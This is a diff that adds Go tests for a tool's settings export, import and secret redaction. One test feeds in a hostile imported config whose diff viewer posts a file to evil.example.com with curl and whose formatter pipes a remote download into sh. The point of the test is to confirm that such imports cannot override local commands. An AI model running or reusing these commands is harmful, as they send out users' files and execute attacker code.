@@ -0,0 +1,198 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestExportImportSettings(t *testing.T) {
+	dir := t.TempDir()
+	t.Setenv("ARGONAUT_CONFIG", filepath.Join(dir, "laptop", "config.toml"))
+	if err := os.MkdirAll(filepath.Join(dir, "laptop"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(GetArgonautConfigPath(), []byte(`
+argocd_config = "~/work/argocd.yaml"
+default_view = "apps"
+last_seen_version = "v2.0.0"
+
+[appearance]
+theme = "dracula"
+key_hints = true
+
+[k9s]
+context = "laptop-kind"
+
+[notifications]
+webhook_url = "${secret:slack.webhook}"
+format = "slack"
+
+[[sync_profiles]]
+project = "prod"
+prune = true
+`), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	exported, err := ExportSettings()
+	if err != nil {
+		t.Fatalf("ExportSettings: %v", err)
+	}
+	for _, local := range []string{"argocd.yaml", "v2.0.0", "laptop-kind", "secret:slack"} {
+		if strings.Contains(string(exported), local) {
+			t.Errorf("export should leave out local setting %q:\n%s", local, exported)
+		}
+	}
+
+	// Another machine with its own local settings
+	t.Setenv("ARGONAUT_CONFIG", filepath.Join(dir, "desktop", "config.toml"))
+	if err := os.MkdirAll(filepath.Join(dir, "desktop"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(GetArgonautConfigPath(), []byte("argocd_config = \"/etc/argocd.yaml\"\n\n[appearance]\ntheme = \"nord\"\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	backup, err := ImportSettings(exported)
+	if err != nil {
+		t.Fatalf("ImportSettings: %v", err)
+	}
+	if old, err := os.ReadFile(backup); err != nil || !strings.Contains(string(old), "nord") {
+		t.Errorf("the previous config should be backed up, got %q (%v)", old, err)
+	}
+
+	cfg, err := LoadArgonautConfig()
+	if err != nil {
+		t.Fatalf("LoadArgonautConfig: %v", err)
+	}
+	if cfg.Appearance.Theme != "dracula" || !cfg.Appearance.KeyHints || cfg.DefaultView != "apps" || cfg.Notifications.Format != "slack" {
+		t.Errorf("portable settings not imported: %+v", cfg)
+	}
+	if len(cfg.SyncProfiles) != 1 || cfg.SyncProfiles[0].Project != "prod" {
+		t.Errorf("sync profiles not imported: %+v", cfg.SyncProfiles)
+	}
+	if cfg.ArgocdConfig != "/etc/argocd.yaml" {
+		t.Errorf("local argocd_config should be kept, got %q", cfg.ArgocdConfig)
+	}
+}
+
+func TestImportSettings_KeepsLocalCommandsAndConnections(t *testing.T) {
+	local := `
+[diff]
+viewer = "meld {left} {right}"
+formatter = "delta"
+
+[port_forward]
+namespace = "argocd"
+
+[servers."argo.example.com"]
+base_path = "/argocd"
+`
+	imported := `
+[diff]
+viewer = "curl -d @{left} https://evil.example.com"
+formatter = "sh -c 'curl evil.example.com | sh'"
+
+[port_forward]
+namespace = "attacker"
+
+[servers."argo.example.com"]
+insecure = true
+`
+	tests := map[string]func(*ArgonautConfig) bool{
+		"diff viewer":    func(c *ArgonautConfig) bool { return c.Diff.Viewer == "meld {left} {right}" },
+		"diff formatter": func(c *ArgonautConfig) bool { return c.Diff.Formatter == "delta" },
+		"port forward":   func(c *ArgonautConfig) bool { return c.PortForward.Namespace == "argocd" },
+		"servers": func(c *ArgonautConfig) bool {
+			s, ok := c.ServerSettingsFor("https://argo.example.com")
+			return ok && !s.Insecure && s.BasePath == "/argocd"
+		},
+	}
+	for name, kept := range tests {
+		t.Run(name, func(t *testing.T) {
+			path := filepath.Join(t.TempDir(), "config.toml")
+			t.Setenv("ARGONAUT_CONFIG", path)
+			if err := os.WriteFile(path, []byte(local), 0644); err != nil {
+				t.Fatal(err)
+			}
+			if _, err := ImportSettings([]byte(imported)); err != nil {
+				t.Fatalf("ImportSettings: %v", err)
+			}
+			cfg, err := LoadArgonautConfig()
+			if err != nil {
+				t.Fatalf("LoadArgonautConfig: %v", err)
+			}
+			if !kept(cfg) {
+				t.Errorf("the local setting should be kept: diff %+v, port_forward %+v, servers %+v", cfg.Diff, cfg.PortForward, cfg.Servers)
+			}
+		})
+	}
+
+	// Exports leave them out too
+	t.Setenv("ARGONAUT_CONFIG", filepath.Join(t.TempDir(), "config.toml"))
+	if err := os.WriteFile(GetArgonautConfigPath(), []byte(local), 0644); err != nil {
+		t.Fatal(err)
+	}
+	exported, err := ExportSettings()
+	if err != nil {
+		t.Fatalf("ExportSettings: %v", err)
+	}
+	for _, local := range []string{"meld", "delta", "port_forward", "argo.example.com"} {
+		if strings.Contains(string(exported), local) {
+			t.Errorf("export should leave out local setting %q:\n%s", local, exported)
+		}
+	}
+}
+
+func TestImportSettings_RejectsUnknownKeys(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.toml")
+	t.Setenv("ARGONAUT_CONFIG", path)
+
+	if _, err := ImportSettings([]byte("[appearence]\ntheme = \"nord\"\n")); err == nil {
+		t.Fatal("a misspelled section should be rejected")
+	}
+	if _, err := os.Stat(path); !os.IsNotExist(err) {
+		t.Error("a rejected import should not write the config")
+	}
+}
+
+func TestRedactedConfig(t *testing.T) {
+	t.Setenv("ARGONAUT_CONFIG", filepath.Join(t.TempDir(), "config.toml"))
+	if data, err := RedactedConfig(); err != nil || data != nil {
+		t.Fatalf("no config file should give nothing, got %q, %v", data, err)
+	}
+
+	if err := os.WriteFile(GetArgonautConfigPath(), []byte(`
+default_view = "apps"
+
+[notifications]
+webhook_url = "https://hooks.slack.com/services/T000/B000/XXXX"
+format = "slack"
+
+[secrets]
+file = "secrets.enc.yaml"
+
+[custom]
+api_token = "${secret:api.token}"
+db_password = "hunter2"
+`), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	data, err := RedactedConfig()
+	if err != nil {
+		t.Fatal(err)
+	}
+	out := string(data)
+	for _, leaked := range []string{"hooks.slack.com", "hunter2"} {
+		if strings.Contains(out, leaked) {
+			t.Errorf("%q should be redacted:\n%s", leaked, out)
+		}
+	}
+	for _, kept := range []string{"default_view = 'apps'", "format = 'slack'", "secrets.enc.yaml", "${secret:api.token}"} {
+		if !strings.Contains(out, kept) {
+			t.Errorf("%q should be kept:\n%s", kept, out)
+		}
+	}
+}